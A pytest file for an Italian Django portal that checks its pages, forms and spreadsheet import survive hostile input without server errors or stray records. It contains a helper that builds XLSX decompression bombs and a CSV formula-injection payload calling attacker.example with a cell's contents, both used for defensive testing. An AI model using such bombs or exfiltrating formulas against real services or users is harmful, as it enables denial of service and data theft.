"""Hostile input on the pages and forms of compliance, portfolio, ledger and cockpit: a page,
the form again with an Italian message, a 400 or a 404; never a server error, never a record
half made.

Each GET parameter gets the HOSTILE values of test_tampered_input (NUL, huge and non-ASCII
numbers, odd dates, long strings, non-UTF-8 escapes), the ids in the paths are huge, and each
POST gets missing fields, wrong types, NUL characters, ids of other users' or no objects, a
tampered confirmation key; the holders' import gets empty, foreign and "bomb" spreadsheets; the
cost pages get periods beyond the calendar. Run it on PostgreSQL too (CI variables): it refuses
NUL in text, which SQLite stores.
"""

from __future__ import annotations

import io
import time
import uuid
import zipfile
from unittest import mock
from urllib.parse import quote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from openpyxl import Workbook

from mailboxes import expiry

from .objects import CF_HOLDER, build_world
from .test_tampered_input import attack_parameters, client_for

pytestmark = pytest.mark.django_db

#: Ids no table holds: beyond a 64-bit key, its edge, zero.
BIG_IDS = ["99999999999999999999", "9223372036854775808", "9223372036854775807", "0"]
#: Form values (not percent-encoded: the test client encodes them).
POST_VALUES = [
    "",
    "a\x00b",
    "\x00",
    "²",
    "١٢٣",
    "9" * 25,
    "-1",
    "1e300",
    "NaN",
    "x" * 5000,
    "0001-01-01",
    "9999-12-31",
    "[]",
    "true",
]


@pytest.fixture
def world(settings, monkeypatch):
    from compliance.choices import Kind
    from compliance.models import CompanyCheck, Finding

    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    settings.COMPANY_API_ENABLED = True
    monkeypatch.setattr(expiry, "wallet_info", lambda limit=10: expiry.WalletInfo())
    w = build_world()
    CompanyCheck.objects.create(
        titolare=w.titolare,
        director={"nome": "Mario", "cognome": "Rossi", "codice_fiscale": CF_HOLDER},
        director_obliged=True,
    )
    # the director has no PEC: the campaign offers a box for them (its per-director form)
    Finding.objects.create(titolare=w.titolare, kind=Kind.DIRECTOR_NO_PEC)
    return w


def counts() -> dict[str, int]:
    """The records a POST of these apps may make."""
    from compliance.models import Campaign, CampaignItem, Monitor, MonitorCall
    from comunica.models import RichiestaComunicazione
    from ledger.models import LetturaConto, MovimentoConto
    from mailboxes.models import Casella, CasellaCall, Titolare

    models = (
        Titolare,
        Casella,
        CasellaCall,
        Campaign,
        CampaignItem,
        Monitor,
        MonitorCall,
        RichiestaComunicazione,
        MovimentoConto,
        LetturaConto,
    )
    return {m.__name__: m.objects.count() for m in models}


def pages(t: int) -> dict[str, list[str]]:
    return {
        "/": [],
        "/conformita/": ["tipo"],
        f"/conformita/impresa/{t}/": [],
        "/conformita/campagna/": ["imprese"],
        f"/conformita/impresa/{t}/amministratore/": [],
        f"/conformita/impresa/{t}/amministratore/comunica/": [],
        "/portafoglio/da-collegare/": [],
        "/portafoglio/altro-gestore/": ["titolare"],
        "/portafoglio/importa/": [],
        "/portafoglio/importa/modello/": ["formato"],
        "/portafoglio/importa/registrazioni/": ["lotto"],
        "/portafoglio/importa/registrazioni/avanzamento/": ["lotto"],
        "/portafoglio/esporta/caselle/": [
            "q",
            "stato",
            "tipo",
            "titolare",
            "scadenza_entro",
            "sort",
            "formato",
        ],
        "/portafoglio/esporta/titolari/": ["q", "formato"],
        "/portafoglio/esporta/scadenze/": ["entro", "formato"],
        "/costi/": ["dal", "al"],
        "/costi/registro/": ["dal", "al", "titolare", "solo", "formato"],
        f"/costi/titolari/{t}/": ["dal", "al", "formato"],
        f"/costi/titolari/{t}/riepilogo.pdf": ["dal", "al"],
        "/cruscotto/da-fare/": [],
        "/cruscotto/andamento/": [],
        "/cruscotto/cerca/": ["q"],
    }


def test_hostile_values_in_every_parameter_of_the_new_pages(world):
    client = client_for(world.office)
    for page in pages(world.titolare.pk):
        assert client.get(page).status_code in (200, 302, 404), page

    def formats(page, param):
        """The exports and the cost pages also as their files."""
        if "esporta" in page or ("costi" in page and param != "formato"):
            return ["", "&formato=csv", "&formato=xlsx", "&formato=pdf"]
        return [""]

    assert attack_parameters(client, pages(world.titolare.pk), formats) > 1000


def test_huge_ids_in_the_paths_are_not_found(world):
    client = client_for(world.office)
    before = counts()
    for pk in BIG_IDS:
        for url in (
            f"/conformita/impresa/{pk}/",
            f"/conformita/campagna/{pk}/",
            f"/conformita/impresa/{pk}/amministratore/",
            f"/conformita/impresa/{pk}/amministratore/comunica/",
            f"/costi/titolari/{pk}/",
            f"/costi/titolari/{pk}/riepilogo.pdf",
        ):
            assert client.get(url).status_code in (400, 404), url
        for url in (
            f"/conformita/impresa/{pk}/verifica/",
            f"/conformita/impresa/{pk}/sorveglia/",
            f"/conformita/impresa/{pk}/sorveglia/termina/",
            f"/conformita/impresa/{pk}/amministratore/",
        ):
            assert client.post(url, {}).status_code in (400, 404), url
        callback = f"/conformita/sorveglianza/{pk}/callback/{'0' * 40}/"
        assert client_for(None).post(callback, {}).status_code == 403
    assert counts() == before


@pytest.mark.parametrize("value", POST_VALUES)
def test_hostile_form_values_change_nothing(world, value):
    """Every POST of the four apps, each field in turn given a hostile value: no server error,
    and nothing recorded (none of these forms is valid with it)."""
    client = client_for(world.office)
    t = str(world.titolare.pk)
    before = counts()
    director = [
        "casella_pec",
        "nome",
        "cognome",
        "email",
        "telefono",
        "indirizzo",
        "cap",
        "comune",
        "provincia",
        "data_rilascio_documento",
        "numero_documento",
        "tipo_documento",
    ]
    holder = [
        "tipo_cliente",
        "nome",
        "cognome",
        "codice_fiscale",
        "email",
        "nazione",
        "cap",
        "provincia",
        "note",
        "denominazione",
    ]
    box = {
        "titolare": t,
        "casella_pec": "nuova@aruba.it",
        "gestore": "aruba",
        "data_scadenza": "2030-01-01",
    }
    posts = [
        ("/conformita/campagna/", {"imprese": value}),
        ("/conformita/campagna/", {"imprese": [t, value]}),
        ("/conformita/campagna/", {"imprese": t, "tipo_casella": value}),
        ("/conformita/campagna/", {"imprese": t, "conferma": "1", "key": value}),
        (
            "/conformita/campagna/",
            {
                "imprese": t,
                "conferma": "1",
                "key": str(uuid.uuid4()),
                **{f"d{t}-{k}": value for k in director},
            },
        ),
        (f"/conformita/impresa/{t}/amministratore/", dict.fromkeys(holder, value)),
        ("/portafoglio/da-collegare/", {"uno": value}),
        ("/portafoglio/da-collegare/", {"caselle": value, "titolare": CF_HOLDER}),
        ("/portafoglio/da-collegare/", {"caselle": [value, "1"], "azione": "proposti"}),
        ("/portafoglio/altro-gestore/", {**box, "titolare": value}),
        *[("/portafoglio/altro-gestore/", {**box, k: value}) for k in box if k != "titolare"],
        ("/portafoglio/importa/registrazioni/", {"lotto": value}),
        ("/portafoglio/importa/", {"modo": value}),
        ("/costi/registro/riconcilia/", {"dal": value}),
        ("/costi/registro/riconcilia/", {"al": value}),
    ]
    with mock.patch("ledger.services.reconcile.reconcile") as reconcile:
        for url, data in posts:
            response = client.post(url, data)
            assert response.status_code < 500, (url, data)
    assert counts() == before
    if value:  # an empty period is the current month's, which the button reconciles
        assert not reconcile.called


def test_a_non_ascii_digit_among_the_companies_is_the_form_again(world):
    """ "²".isdigit() is True and int("²") raises: the campaign page was a server error."""
    client = client_for(world.office)
    response = client.post("/conformita/campagna/", {"imprese": ["²", "9" * 25]})
    assert response.status_code == 200
    assert "Scegliere almeno un&#x27;impresa." in response.content.decode()
    assert counts()["Campaign"] == 0


def test_a_tampered_campaign_key_confirms_nothing(world):
    client = client_for(world.office)
    before = counts()
    for key in ("", "not-a-uuid", "a\x00b", str(uuid.uuid4())[:-1]):
        response = client.post(
            "/conformita/campagna/",
            {"imprese": str(world.titolare.pk), "conferma": "1", "key": key},
            follow=True,
        )
        assert response.status_code == 200
        assert "Conferma non valida: scegliere di nuovo le imprese." in response.content.decode()
    assert counts() == before


def test_another_offices_campaign_id_shows_none_of_its_companies(world):
    """A campaign's page lists only the companies the user sees: an accountant never gets it
    (office only), and an unknown id is a 404."""
    from compliance.models import Campaign, CampaignItem

    campaign = Campaign.objects.create(key=str(uuid.uuid4()), created_by=world.office)
    CampaignItem.objects.create(campaign=campaign, titolare=world.titolare)
    assert client_for(world.assigned).get(f"/conformita/campagna/{campaign.pk}/").status_code == 403
    assert (
        client_for(world.office).get(f"/conformita/campagna/{campaign.pk + 1}/").status_code == 404
    )


# --------------------------------------------------------------------------- ledger periods


@pytest.mark.parametrize(
    "query",
    [
        "dal=9999-12-31",
        "al=9999-12-31",
        "dal=0001-01-01",
        "dal=0001-01-01&al=0001-01-02",
        "dal=9999-12-30&al=9999-12-31",
        "dal=1899-12-31&al=1900-01-01",
    ],
)
def test_a_period_beyond_the_calendar_is_the_page_with_a_message(world, query):
    """A day that cannot be moved to UTC or followed by the next one: the page of the current
    month with the reason, not a bare 400 (nor the server error of the same period posted)."""
    client = client_for(world.office)
    for page in ("/costi/", "/costi/registro/", f"/costi/titolari/{world.titolare.pk}/"):
        response = client.get(f"{page}?{query}")
        assert response.status_code == 200, (page, query)
        assert "Le date vanno dal 01/01/2000 al 31/12/2099." in response.content.decode()
    pdf = client.get(f"/costi/titolari/{world.titolare.pk}/riepilogo.pdf?{query}")
    assert pdf.status_code == 200
    assert pdf["Content-Type"] == "application/pdf"


def test_a_reversed_period_is_the_page_with_a_message(world):
    response = client_for(world.office).get("/costi/?dal=2025-05-01&al=2025-01-01")
    assert response.status_code == 200
    assert "La data iniziale viene dopo quella finale." in response.content.decode()


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        ({"dal": "9999-12-31"}, "Le date vanno dal 01/01/2000 al 31/12/2099."),
        ({"dal": "0001-01-01", "al": "0001-01-31"}, "Le date vanno dal 01/01/2000"),
        ({"dal": "2025-05-01", "al": "2025-01-01"}, "La data iniziale viene dopo quella finale."),
        ({"dal": "2020-01-01", "al": "2025-01-01"}, "Il periodo può durare al massimo tre anni."),
        ({"dal": "ieri"}, "Inserisci una data valida."),
    ],
)
def test_reconciling_a_bad_period_reads_nothing(world, data, reason):
    """The reconcile button posts the page's period: a tampered one was a server error (year
    9999) or reconciled the current month instead (a reversed one), unasked."""
    with mock.patch("ledger.services.reconcile.reconcile") as reconcile:
        response = client_for(world.office).post("/costi/registro/riconcilia/", data, follow=True)
    assert response.status_code == 200
    page = response.content.decode()
    assert "Periodo non valido" in page and reason in page
    assert not reconcile.called


def test_reconciling_the_pages_period_still_reads_the_wallet(world):
    with mock.patch("ledger.services.reconcile.reconcile") as reconcile:
        reconcile.return_value = mock.Mock(letti=2, nuovi=1, abbinati=1)
        response = client_for(world.office).post(
            "/costi/registro/riconcilia/", {"dal": "2025-01-01", "al": "2025-01-31"}, follow=True
        )
    assert "Letti 2 movimenti del conto" in response.content.decode()
    assert reconcile.call_args.args[1].date().isoformat() == "2025-01-01"


# --------------------------------------------------------------------------- portfolio


@pytest.mark.parametrize("code", ["\x00", "a\x00b", CF_HOLDER + "\x00", "²", "x" * 5000])
def test_adopting_with_a_hostile_holder_code_links_nothing(world, code):
    """PostgreSQL refuses a NUL in the code looked up: the adoption page was a server error."""
    from mailboxes.models import Casella

    box = Casella.objects.create(casella_pec="orfana@legalmail.it", tipo_casella="STANDARD")
    response = client_for(world.office).post(
        "/portafoglio/da-collegare/", {"caselle": str(box.pk), "titolare": code}, follow=True
    )
    assert response.status_code == 200
    assert "Nessun titolare con questo codice fiscale o partita IVA." in response.content.decode()
    box.refresh_from_db()
    assert box.titolare_id is None


def test_adding_another_providers_box_for_someone_elses_holder_is_refused(world):
    """The holder must be one of the user's: an id of another (or of none) is a form error."""
    client = client_for(world.office)
    before = counts()
    for titolare in ("9" * 25, "0", "-1", str(world.other_titolare.pk + 100)):
        response = client.post(
            "/portafoglio/altro-gestore/",
            {
                "titolare": titolare,
                "casella_pec": "nuova@aruba.it",
                "gestore": "aruba",
                "data_scadenza": "2030-01-01",
            },
        )
        assert response.status_code == 400
        assert "Scegli un&#x27;opzione valida" in response.content.decode()
    assert counts() == before


def _xlsx(rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _inflated(rows_xml: bytes, copies: int, dimension: bytes) -> bytes:
    """A small XLSX whose sheet, once unzipped, is the template's header and ``copies`` times
    ``rows_xml`` (a few hundred KB holding hundreds of MB of XML)."""
    from portfolio.services import importing

    base = _xlsx([importing.template_rows()[0], ["IM"]])
    source = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                head, end, rest = data.partition(b"</row>")
                head = head.replace(b'<dimension ref="A1:AK2"', b'<dimension ref="%s"' % dimension)
                tail = rest.partition(b"</sheetData>")[2]
                data = head + end + rows_xml * copies + b"</sheetData>" + tail
            target.writestr(item, data)
    return out.getvalue()


BOMBS = {
    # a million empty rows: the blank rows were not counted against MAX_ROWS, all were read
    "empty rows": (b'<row><c t="inlineStr"><is><t></t></is></c></row>', 1_000_000, b"A1:AK9999999"),
    # a dimension of 16,384 columns: every row was padded to them before being cut to 40
    "wide sheet": (b'<row><c t="inlineStr"><is><t></t></is></c></row>', 100_000, b"A1:XFD200000"),
    # one cell in the last column of each row
    "far cells": (
        b'<row><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>',
        100_000,
        b"A1:XFD200000",
    ),
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_compressed_sheet_of_millions_of_rows_is_answered_at_once(world, bomb):
    """A few hundred KB of XLSX hold a sheet of a million empty rows: the page kept a worker
    busy for minutes (106 s for three million rows) reading them all."""
    content = _inflated(*BOMBS[bomb])
    assert len(content) < 1024 * 1024
    client = client_for(world.office)
    before = counts()
    started = time.monotonic()
    response = client.post("/portafoglio/importa/", {"file": SimpleUploadedFile("a.xlsx", content)})
    assert time.monotonic() - started < 10
    assert response.status_code in (200, 400)
    assert counts() == before


def test_data_rows_beyond_the_limit_among_blank_ones_are_refused(world):
    from portfolio.services import importing

    header = ";".join(importing.template_rows()[0])
    row = "IM;SI;Esempio Srl;;;12345670017;12345670017;Via Roma 1;00184;Roma;RM;IT;;;"
    blanks = "\n" + ";;\n" * (importing.MAX_BLANK_RUN - 1)
    content = (header + "\n" + (row + blanks) * 30).encode()
    response = client_for(world.office).post(
        "/portafoglio/importa/", {"file": SimpleUploadedFile("a.csv", content)}
    )
    assert response.status_code == 400
    assert "Il file ha più di 20000 righe: dividilo in più file." in response.content.decode()


def test_blank_rows_after_the_table_are_its_end(world):
    """A sheet's formatted empty rows after the data: the rows above are read, not refused."""
    from portfolio.services import importing

    header = importing.template_rows()[0]
    row = [
        "IM",
        "SI",
        "Esempio Srl",
        "",
        "",
        "12345670017",
        "12345670017",
        "Via Roma 1",
        "00184",
        "Roma",
        "RM",
        "IT",
    ]
    content = _xlsx([header, row] + [[""]] * 30_000 + [row])
    preview = importing.preview(content)
    assert [r.number for r in preview.rows] == [2]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("vuoto.csv", b""),
        ("vuoto.xlsx", b""),
        ("foto.xlsx", b"\x89PNG\r\n\x1a\n" + b"\x00" * 100),
        ("documento.xlsx", b"%PDF-1.4\n" + b"x" * 100),
        ("rotto.xlsx", b"PK\x03\x04" + b"\x00" * 100),
        ("colonne.csv", b"a;b;c\n1;2;3\n"),
        ("nul.csv", b"Codice fiscale;Ragione sociale\n" + b"x" * 5000 + b"\x00;y\n"),
    ],
)
def test_a_file_that_is_no_table_of_holders_imports_nothing(world, name, content):
    client = client_for(world.office)
    before = counts()
    response = client.post("/portafoglio/importa/", {"file": SimpleUploadedFile(name, content)})
    assert response.status_code in (200, 400)
    if response.status_code == 200:  # read, every row refused: importing it imports nothing
        client.post("/portafoglio/importa/", {"modo": "solo_valide"})
    assert counts() == before


# --------------------------------------------------------------------------- accountants


def test_an_accountant_sees_nothing_of_another_accountants_client(world):
    """``other`` is the accountant of another holder: 404 on the compliance and cost pages of
    ``titolare``, 403 on the office's pages and forms, none of its data in the exports, the
    search, the cockpit or the compliance list."""
    client = client_for(world.other)
    t = world.titolare.pk
    for url in (
        f"/conformita/impresa/{t}/",
        f"/costi/titolari/{t}/",
        f"/costi/titolari/{t}/riepilogo.pdf",
        f"/costi/titolari/{t}/?formato=csv",
    ):
        assert client.get(url).status_code == 404, url
    for url in (
        f"/conformita/impresa/{t}/amministratore/",
        f"/conformita/impresa/{t}/amministratore/comunica/",
        "/conformita/campagna/",
        "/portafoglio/da-collegare/",
        "/portafoglio/altro-gestore/",
        "/portafoglio/importa/",
        "/portafoglio/esporta/scadenze/",
        "/costi/registro/",
    ):
        assert client.get(url).status_code == 403, url
    before = counts()
    for url in (
        f"/conformita/impresa/{t}/verifica/",
        f"/conformita/impresa/{t}/sorveglia/",
        f"/conformita/impresa/{t}/sorveglia/termina/",
        "/conformita/verifica/",
        f"/conformita/impresa/{t}/amministratore/",
        "/conformita/campagna/",
        "/portafoglio/da-collegare/",
        "/portafoglio/altro-gestore/",
        "/portafoglio/importa/",
        "/portafoglio/importa/registrazioni/",
        "/costi/registro/riconcilia/",
    ):
        assert (
            client.post(url, {"imprese": str(t), "uno": str(world.casella.pk)}).status_code == 403
        )
    assert counts() == before
    for url in (
        "/portafoglio/esporta/caselle/",
        "/portafoglio/esporta/titolari/",
        "/portafoglio/esporta/caselle/?formato=xlsx",
        "/cruscotto/cerca/?q=Segreto",
        "/cruscotto/cerca/?q=leak-marker",
        "/conformita/",
        "/costi/",
        "/",
        "/cruscotto/da-fare/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        body = b"".join(response.streaming_content) if response.streaming else response.content
        if not url.endswith("xlsx"):
            assert b"Segreto Leak" not in body and b"leak-marker-box" not in body, url


# --------------------------------------------------------------------------- what comes back out


def _export(client, url) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, url
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_control_characters_a_form_took_do_not_break_the_xlsx_exports(world):
    """The holder form takes a control character (only NUL is refused): the holders' and the
    boxes' XLSX export then failed for the whole office (openpyxl refuses it: a server
    error)."""
    from openpyxl import load_workbook

    from mailboxes.models import Titolare

    Titolare.objects.filter(pk=world.titolare.pk).update(denominazione="Segreto\x01 Leak\x1b Srl")
    client = client_for(world.office)
    for url in (
        "/portafoglio/esporta/titolari/?formato=xlsx",
        "/portafoglio/esporta/caselle/?formato=xlsx",
    ):
        sheet = load_workbook(io.BytesIO(_export(client, url))).active
        values = [c.value for row in sheet.iter_rows() for c in row]
        assert "Segreto Leak Srl" in values, url


FORMULA = '=HYPERLINK("http://attacker.example/?"&A2;"Apri")'


def test_a_formula_imported_as_a_holders_name_is_text_in_the_exports(world):
    """A CSV cell "=HYPERLINK(...)" is imported as the text it is; exported, it was a live
    formula in the XLSX (openpyxl writes a text starting with "=" as one) and in the CSV Excel
    opens. Now it is text in both, and the CSV imports back as it was exported."""
    from openpyxl import load_workbook

    from mailboxes.models import Titolare
    from portfolio.services import importing

    header = ";".join(importing.template_rows()[0])
    quoted = FORMULA.replace('"', '""')
    row = f'IM;SI;"{quoted}";;;12345670017;12345670017;Via Roma 1;00184;Roma;RM;IT'
    client = client_for(world.office)
    client.post(
        "/portafoglio/importa/",
        {"file": SimpleUploadedFile("a.csv", (header + "\n" + row).encode())},
    )
    client.post("/portafoglio/importa/", {"modo": "tutto"})
    assert Titolare.objects.filter(denominazione=FORMULA).exists()

    sheet = load_workbook(
        io.BytesIO(_export(client, "/portafoglio/esporta/titolari/?formato=xlsx"))
    ).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)

    exported = _export(client, "/portafoglio/esporta/titolari/")
    assert f"'{FORMULA}".replace('"', '""').encode() in exported
    again = importing.preview(exported)
    assert FORMULA in [r.data.get("denominazione") for r in again.rows]


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31", "31/12/0202", "01/01/2225"])
def test_an_expiry_of_another_century_is_the_form_again(world, day):
    """A year typed wrong: the box was recorded as expired two thousand years ago (or renewed
    in eight thousand), and watched so."""
    from mailboxes.models import Casella

    response = client_for(world.office).post(
        "/portafoglio/altro-gestore/",
        {
            "titolare": str(world.titolare.pk),
            "casella_pec": "secolo@aruba.it",
            "gestore": "aruba",
            "data_scadenza": day,
        },
    )
    assert response.status_code == 400
    assert "Scadenza non plausibile: deve essere tra il 01/01/2000 e il" in (
        response.content.decode()
    )
    assert not Casella.objects.filter(casella_pec="secolo@aruba.it").exists()


def test_an_imported_box_expiring_in_another_century_is_an_invalid_row(world):
    from portfolio.services import importing

    header = importing.template_rows()[0]
    company = ["IM", "SI", "Secolo Srl", "", "", "12345670017", "12345670017", "Via Roma 1",
               "00184", "Roma", "RM", "IT", "", "", "", ""]  # fmt: skip
    box = dict.fromkeys(header[len(company) :], "")
    box |= {"Casella PEC": "secolo@aruba.it", "Gestore": "Aruba", "Scadenza": "31/12/9999"}
    row = company + [box[h] for h in header[len(company) :]]
    preview = importing.preview(_xlsx([header, row]))
    assert preview.invalid == 1
    assert any("Scadenza non plausibile" in m for ms in preview.rows[0].errors.values() for m in ms)


def test_the_same_box_posted_twice_is_recorded_once(world):
    from mailboxes.models import Casella

    client = client_for(world.office)
    data = {
        "titolare": str(world.titolare.pk),
        "casella_pec": "Doppia@Aruba.it",
        "gestore": "aruba",
        "data_scadenza": "2027-01-01",
    }
    assert client.post("/portafoglio/altro-gestore/", data).status_code == 302
    again = client.post("/portafoglio/altro-gestore/", data)
    assert again.status_code == 400
    assert "L&#x27;indirizzo doppia@aruba.it è già nel portale." in again.content.decode()
    assert Casella.objects.filter(casella_pec="doppia@aruba.it").count() == 1


def test_a_nul_in_a_directors_form_is_the_summary_again(world):
    """The campaign's per-director form: a NUL (PostgreSQL refuses it) in every field is told
    on the summary page, and nothing is registered, filed or recorded."""
    t = world.titolare.pk
    fields = ["casella_pec", "nome", "cognome", "email", "telefono", "indirizzo", "cap",
              "comune", "provincia", "numero_documento", "documento_rilasciato_da"]  # fmt: skip
    before = counts()
    response = client_for(world.office).post(
        "/conformita/campagna/",
        {
            "imprese": str(t),
            "conferma": "1",
            "key": str(uuid.uuid4()),
            **{f"d{t}-{k}": "Rossi\x00" for k in fields},
        },
    )
    assert response.status_code == 400
    assert "I caratteri null non sono ammessi." in response.content.decode()
    assert counts() == before


@pytest.mark.parametrize("column", ["codice_fiscale", "casella_pec", "denominazione"])
def test_a_nul_deep_in_a_csv_is_an_invalid_row(world, column):
    """The import refuses a file with a NUL in its first 4 KB; one further down reached the
    lookups of the codes and addresses already in the portal (PostgreSQL refuses NUL: a
    server error) before the row was judged."""
    from portfolio.services import importing

    header = importing.template_rows()[0]
    at = {"denominazione": 2, "codice_fiscale": 5}.get(column, header.index("Casella PEC"))
    rows = []
    for i in range(60):
        body = f"{i:07d}001"
        from stdnum import luhn

        code = body + luhn.calc_check_digit(body)
        row = ["IM", "SI", f"Riga {i} Srl", "", "", code, code, "Via Roma 1", "00184", "Roma",
               "RM", "IT"] + [""] * (len(header) - 12)  # fmt: skip
        rows.append(row)
    rows[-1][at] = rows[-1][at] + "\x00"
    if column == "casella_pec":
        rows[-1][header.index("Gestore")] = "Aruba"
        rows[-1][header.index("Scadenza")] = "01/01/2027"
    content = "\n".join(";".join(r) for r in [header, *rows]).encode()
    assert b"\x00" not in content[:4096]
    client = client_for(world.office)
    before = counts()
    response = client.post("/portafoglio/importa/", {"file": SimpleUploadedFile("a.csv", content)})
    assert response.status_code == 200
    page = response.content.decode()
    assert "Non valida" in page
    client.post("/portafoglio/importa/", {"modo": "tutto"})
    assert counts() == before


@hsettings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    page=st.sampled_from(
        [
            "/conformita/",
            "/costi/",
            "/costi/registro/",
            "/cruscotto/cerca/",
            "/portafoglio/esporta/caselle/",
            "/portafoglio/altro-gestore/",
            "/portafoglio/importa/registrazioni/",
        ]
    ),
    param=st.sampled_from(["q", "tipo", "dal", "al", "titolare", "solo", "lotto", "stato"]),
    value=st.text(max_size=60) | st.binary(max_size=40).map(lambda b: b.decode("latin-1")),
)
def test_fuzzed_parameters_of_the_new_pages_never_fail(world, page, param, value):
    response = client_for(world.office).get(f"{page}?{param}={quote(value, safe='')}")
    assert response.status_code < 500


@pytest.mark.parametrize("value", [float("inf"), float("-inf"), float("nan"), 1e300, -5, 2**70])
@pytest.mark.parametrize("column", ["Scadenza", "CAP", "Codice fiscale"])
def test_an_impossible_number_in_a_date_or_code_cell_is_an_invalid_row(world, column, value):
    """A number cell where a date (an Excel serial) or a code is read: infinity, NaN, a
    number beyond any date: the row is invalid, nothing imported."""
    from portfolio.services import importing

    header = importing.template_rows()[0]
    row = dict.fromkeys(header, "")
    row |= {"Tipo cliente": "IM", "Sottotipo": "SI", "Ragione sociale": "Numeri Srl",
            "Codice fiscale": "12345670017", "Partita IVA": "12345670017",
            "Indirizzo": "Via Roma 1", "CAP": "00184", "Comune": "Roma", "Provincia": "RM",
            "Nazione": "IT", "Casella PEC": "numeri@aruba.it", "Gestore": "Aruba",
            "Scadenza": "01/01/2027"}  # fmt: skip
    row[column] = value
    content = _xlsx([header, [row[h] for h in header]])
    client = client_for(world.office)
    before = counts()
    response = client.post("/portafoglio/importa/", {"file": SimpleUploadedFile("n.xlsx", content)})
    assert response.status_code == 200
    assert "Non valida" in response.content.decode()
    client.post("/portafoglio/importa/", {"modo": "tutto"})
    assert counts() == before
